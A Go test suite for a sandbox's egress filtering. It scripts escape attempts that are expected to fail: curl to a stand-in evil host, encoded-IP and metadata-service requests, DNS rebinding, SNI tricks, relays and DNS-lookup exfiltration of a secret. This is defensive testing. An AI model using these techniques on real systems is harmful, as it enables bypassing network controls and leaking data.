package egress

import (
	"io"
	"net"
	"strings"
	"testing"

	"github.com/mcpbox/mcpbox/internal/testnet"
	"github.com/mcpbox/mcpbox/monitor"
)

var one = []string{"--allow-net", api}

func TestTheAllowedHostAndNoOther(t *testing.T) {
	w := newWorld(t)
	for _, uid := range []int{0, 12345} {
		r := w.as(uid, "--allow-net", api, "--", "sh", "-c",
			"curl -sS -m 20 https://"+api+"/ http://"+api+"/; curl -sS -m 20 http://"+evil+"/")
		if strings.Count(r.stdout, "this is api for "+
			""+api) != 2 || strings.Contains(r.stdout, "evil") {
			t.Errorf("uid %d: %s%s", uid, r.stdout, r.stderr)
		}
		if len(r.result.Network) != 2 || r.result.Network[1].Host != api ||
			r.result.Network[1].Port != 443 || r.result.Network[1].Received == 0 {
			t.Errorf("uid %d: network %+v", uid, r.result.Network)
		}
		e := r.event("egress:name")
		if e == nil || e.Network.Name != evil || e.Type != monitor.PermissionDenied {
			t.Errorf("uid %d: event %+v", uid, e)
		}
		if !strings.Contains(r.stderr, "hint: to allow it: --allow-net "+evil) {
			t.Errorf("uid %d: no hint: %s", uid, r.stderr)
		}
	}
}

func TestCannotReachAnotherName(t *testing.T) {
	w := newWorld(t)
	w.attack("this is evil", "egress:name", one, curl("http://"+evil+"/")...)
}

func TestCannotReachAnotherPort(t *testing.T) {
	w := newWorld(t)
	serve(w.Listen(testnet.Public+":22"), echo)
	serve(w.Listen(testnet.Public+":9999"), echo)
	talk := func(port string) []string {
		return []string{"python3", "-c", "import socket; s = socket.create_connection(('" + api +
			"', " + port + "), 20); s.send(b'said'); print('it', s.recv(9).decode())"}
	}
	w.attack("it said", "egress:port", one, talk("22")...)
	w.attack("it said", "", one, talk("9999")...) // nobody listens there inside: the kernel refuses
	if r := w.mcpbox(append([]string{"--allow-net", api + ":9999", "--"},
		talk("9999")...)...); !strings.Contains(r.stdout, "it said") {
		t.Errorf("the port is allowed: %s", r.stderr)
	}
}

// All of these are the address of the other server; inet_aton(3) reads the odd ones.
func TestCannotReachAnAddress(t *testing.T) {
	w := newWorld(t)
	for _, host := range []string{testnet.Other, "3405803787", "0xcb00710b", "0313.0.0161.013",
		"203.0.28939", "[::ffff:" + testnet.Other + "]"} {
		w.attack("this is evil", "egress:address", one, curl("--globoff", "http://"+host+"/")...)
	}
}

func TestCannotReachTheMetadataService(t *testing.T) {
	w := newWorld(t)
	for _, host := range []string{testnet.Metadata, "2852039166", "[::ffff:a9fe:a9fe]"} {
		r := w.attack("this is metadata", "egress:metadata", one, curl("--globoff",
			"http://"+host+"/")...)
		if e := r.event("egress:metadata"); e != nil && (e.Type != monitor.EscapeAttempt ||
			e.Severity != monitor.High) {
			t.Errorf("event %+v", e)
		}
	}
}

func TestASpellingOfTheNameIsTheName(t *testing.T) {
	w := newWorld(t)
	for _, host := range []string{"API.Example.TEST", api + "."} {
		if r := w.mcpbox("--allow-net", "Api.example.Test.", "--", "curl", "-sS", "-m", "20",
			"http://"+host+"/"); !strings.Contains(r.stdout, "this is api") {
			t.Errorf("%s: %s", host, r.stderr)
		}
	}
}

// A name that looks the same: the first letter is Cyrillic.
func TestCannotReachALookAlike(t *testing.T) {
	w := newWorld(t)
	w.Names.Set("xn--pi-7kc.example.test", testnet.Other)
	w.attack("this is evil", "egress:name", one, curl("http://xn--pi-7kc.example.test/")...)
}

func TestCannotReachThePrivateNetworkByAName(t *testing.T) {
	w := newWorld(t)
	w.Names.Set(api, testnet.Private)
	r := w.attack("this is private", "egress:private", one, curl("http://"+api+"/")...)
	if !strings.Contains(r.stderr, testnet.Private) {
		t.Error(r.stderr)
	}
	w.Names.Set(api, "cname:inside.example.test")
	w.Names.Set("inside.example.test", testnet.Private)
	w.attack("this is private", "egress:private", one, curl("http://"+api+"/")...)
	w.Names.Set(api, testnet.Metadata)
	w.attack("this is metadata", "egress:metadata", one, curl("http://"+api+"/")...)
	w.Names.Set(api, testnet.Private)
	if r := w.mcpbox("--allow-net", api, "--allow-net", "10.9.9.0/24", "--", "curl", "-sS", "-m",
		"20", "http://"+api+"/"); !strings.Contains(r.stdout, "this is private") {
		t.Errorf("the range is allowed: %s", r.stderr)
	}
}

func TestCannotReachTheHostItself(t *testing.T) {
	w := newWorld(t)
	secret := func(addr string) {
		serve(w.ListenHere(addr), func(c net.Conn) {
			io.WriteString(c,
				"HTTP/1.0 200 OK\r\n\r\nthe host's secret\n")
		})
	}
	secret(testnet.Machine + ":80")
	secret("127.0.0.1:80")
	w.attack("the host's secret", "", one, curl("http://127.0.0.1/")...)
	w.attack("the host's secret", "egress:address", one, curl("http://"+testnet.Machine+"/")...)
	for _, addr := range []string{testnet.Machine, "127.0.0.1", "::ffff:127.0.0.1"} {
		w.Names.Set(api, addr)
		if strings.HasPrefix(addr, "::") {
			r := w.mcpbox("--allow-net", api, "--", "curl", "-sS", "-m", "20", "http://"+api+"/")
			if strings.Contains(r.stdout, "secret") {
				t.Errorf("%s: %s", addr, r.stdout)
			}
			continue
		}
		w.attack("the host's secret", "egress:private", one, curl("http://"+api+"/")...)
	}
}

// The name leads to the allowed server when the policy looks, and elsewhere a moment later.
func TestCannotRebind(t *testing.T) {
	w := newWorld(t)
	r := w.mcpbox("--allow-net", api, "--", "python3", "-c",
		"import urllib.request as u\nfor i in range(2):\n try: "+
			"print(u.urlopen('http://"+api+"/', timeout=20).read())\n except Exception as e: "+
			"print(e)\n")
	if strings.Count(r.stdout, "this is api") != 2 {
		t.Fatalf("%s%s", r.stdout, r.stderr)
	}
	// Two questions (A and AAAA): the answer that was checked is used for both connections, and
	// nothing is asked between the check and the connection.
	n := 0
	for _, name := range w.Names.Asked() {
		if name == api {
			n++
		}
	}
	if n != 2 {
		t.Errorf("%d questions for two connections", n)
	}
}

func TestCannotSpeakToAnotherHostByTLS(t *testing.T) {
	w := newWorld(t)
	w.Names.Set(evil, testnet.Public) // both are at one address, as at a shared provider
	toAPI := "openssl s_client -quiet -verify_quiet -CAfile /data/ca.pem -connect " + api + ":443 "
	ask := "printf 'GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' | "
	w.attack("this is api", "egress:sni", one, "sh", "-c", ask+toAPI+"-servername "+evil)
	w.attack("this is api", "egress:sni", one, "sh", "-c", ask+toAPI+"-noservername")
	w.attack("this is api", "egress:tls", one, "python3", "-c",
		"import socket\ns = socket.create_connection(('"+api+"', 443), 20)\n"+
			"s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint('this is api' if b'HTTP' in "+
			"s.recv(999) else '')") // plain HTTP where TLS is due
	if r := w.mcpbox("--allow-net", api, "--", "sh", "-c",
		ask+toAPI+"-servername "+api); !strings.Contains(r.stdout, "this is api") {
		t.Errorf("with its own name: %s%s", r.stdout, r.stderr)
	}
}

func TestCannotSendPackets(t *testing.T) {
	w := newWorld(t)
	w.EchoPackets(testnet.Other + ":443") // QUIC's port
	w.attack("it came back", "", one, "python3", "-c",
		"import socket\ns = socket.socket(socket.AF_INET, "+
			"socket.SOCK_DGRAM)\ns.connect(('"+testnet.Other+"', 443))\n"+
			"s.settimeout(20)\ns.send(b'came back')\nprint('it', s.recv(99).decode())")
	r := w.mcpbox("--allow-net", api, "--", "python3", "-c",
		"import socket\nfor f, k, p in [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, "+
			"socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_DGRAM, 1)]:\n"+
			" try: socket.socket(f, k, p); print('made')\n except OSError as e: print(e)")
	if strings.Contains(r.stdout, "made") || strings.Count(r.stdout, "\n") != 3 {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
}

func TestCannotChangeItsNetwork(t *testing.T) {
	w := newWorld(t)
	for _, line := range []string{"ip route del local default dev lo table local",
		"ip addr add 192.0.2.1/32 dev lo", "ip link set lo down", "ip link add x type dummy",
		"ip -6 route add 2001:db8::/32 dev lo"} {
		r := w.mcpbox(append([]string{"--allow-net", api, "--"}, strings.Fields(line)...)...)
		if r.code == 0 || !strings.Contains(r.stderr, "not permitted") {
			t.Errorf("%s: %d %s%s", line, r.code, r.stdout, r.stderr)
		}
	}
}

func TestCannotTakeTheListenersPlace(t *testing.T) {
	w := newWorld(t)
	r := w.mcpbox("--allow-net", api, "--allow-net", api+":8443", "--", "python3", "-c", `
import socket
for host, port, kind in [("", 443, socket.SOCK_STREAM), ("", 8443, socket.SOCK_STREAM), `+
		`("198.18.0.2", 8443, socket.SOCK_STREAM), ("127.0.0.53", 53, socket.SOCK_DGRAM), `+
		`("127.0.0.53", 53, socket.SOCK_STREAM)]:
    for option in [None, socket.SO_REUSEADDR, socket.SO_REUSEPORT]:
        s = socket.socket(socket.AF_INET, kind)
        if option: s.setsockopt(socket.SOL_SOCKET, option, 1)
        try:
            s.bind((host, port))
            if kind == socket.SOCK_STREAM: s.listen()
            print("taken", host, port, option)
        except OSError as e:
            print("no", e)
`)
	if strings.Contains(r.stdout, "taken") || strings.Count(r.stdout, "no [") != 15 {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
}

// Something else in the sandbox listens, on a port of its own, and leads on: it reaches what the
// sandbox reaches.
func TestARelayInsideGainsNothing(t *testing.T) {
	w := newWorld(t)
	r := w.mcpbox("--allow-net", api, "--", "python3", "-c", `
import socket, threading
def relay(l):
    c, _ = l.accept()
    try:
        o = socket.create_connection(("`+testnet.Other+`", 80), 20); o.sendall(c.recv(999)); `+
		`c.sendall(o.recv(999))
    except OSError as e: c.sendall(str(e).encode())
    c.close()
l = socket.create_server(("127.0.0.1", 8080)); threading.Thread(target=relay, args=[l]).start()
s = socket.create_connection(("127.0.0.1", 8080), 20); s.sendall(b"GET / HTTP/1.0\r\n\r\n"); `+
		`print(s.recv(999))
`)
	if strings.Contains(r.stdout, "evil") || r.event("egress:address") == nil {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
}

func TestALookUpIsNoChannel(t *testing.T) {
	w := newWorld(t)
	before := len(w.Names.Asked())
	r := w.mcpbox("--allow-net", "*.example.test", "--", "python3", "-c", `
import socket
for name in ["the-secret-is-1234.example.test", "the-secret-is-1234.evil.example", `+
		`"TXT.the-secret.evil.example"]:
    try: print(socket.getaddrinfo(name, 80)[0][4][0])
    except OSError as e: print(e)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("`+testnet.Public+`", 53))
try: s.send(b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\0\0\1\0\1"); s.settimeout(1); `+
		`print(s.recv(99))
except OSError as e: print(e)
`)
	if asked := w.Names.Asked()[before:]; len(asked) > 0 {
		t.Errorf("asked outside: %v\n%s%s", asked, r.stdout, r.stderr)
	}
}

func TestAFloodOfLookUpsIsFolded(t *testing.T) {
	w := newWorld(t)
	r := w.mcpbox("--quiet", "--allow-net", api, "--", "python3", "-c", `
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.53", 53)); `+
		`s.settimeout(20)
for i in range(100_000):
    n = b"n%d" % i
    s.send(struct.pack(">6H", i & 0xffff, 0x100, 1, 0, 0, 0) + bytes([len(n)]) + n + `+
		`b"\4evil\7example\0\0\1\0\1")
    s.recv(512)
print("done")
`)
	if !strings.Contains(r.stdout, "done") || len(r.result.Events) > 100 {
		t.Errorf("%d events, %s%s", len(r.result.Events), r.stdout, r.stderr)
	}
	total := 0
	for _, e := range r.result.Events {
		total += e.Count
	}
	if total < 100_000 {
		t.Errorf("%d look-ups are accounted for", total)
	}
}

func TestMaximumHasNoNetwork(t *testing.T) {
	w := newWorld(t)
	r := w.mcpbox("--policy", "maximum", "--allow-net", api, "--", "true")
	if r.code != 125 || !strings.Contains(r.stderr, "allows no sockets") {
		t.Errorf("%d %s", r.code, r.stderr)
	}
}

func TestStrictGetsWhatTheNetworkTakes(t *testing.T) {
	w := newWorld(t)
	get := []string{"python3", "-c", "import urllib.request as u; print(u.urlopen('http://" + api +
		"/', timeout=20).read())"}
	if r := w.mcpbox(append([]string{"--best-effort", "--policy", "strict", "--"},
		get...)...); strings.Contains(r.stdout, "this is api") {
		t.Error("strict has a network by itself")
	}
	r := w.mcpbox(append([]string{"--best-effort", "--policy", "strict", "--allow-net", api,
		"--"}, get...)...)
	if !strings.Contains(r.stdout, "this is api") {
		t.Error(r.stderr)
	}
	for _, e := range r.result.Events {
		t.Errorf("event: %s", e.Summary())
	}
}
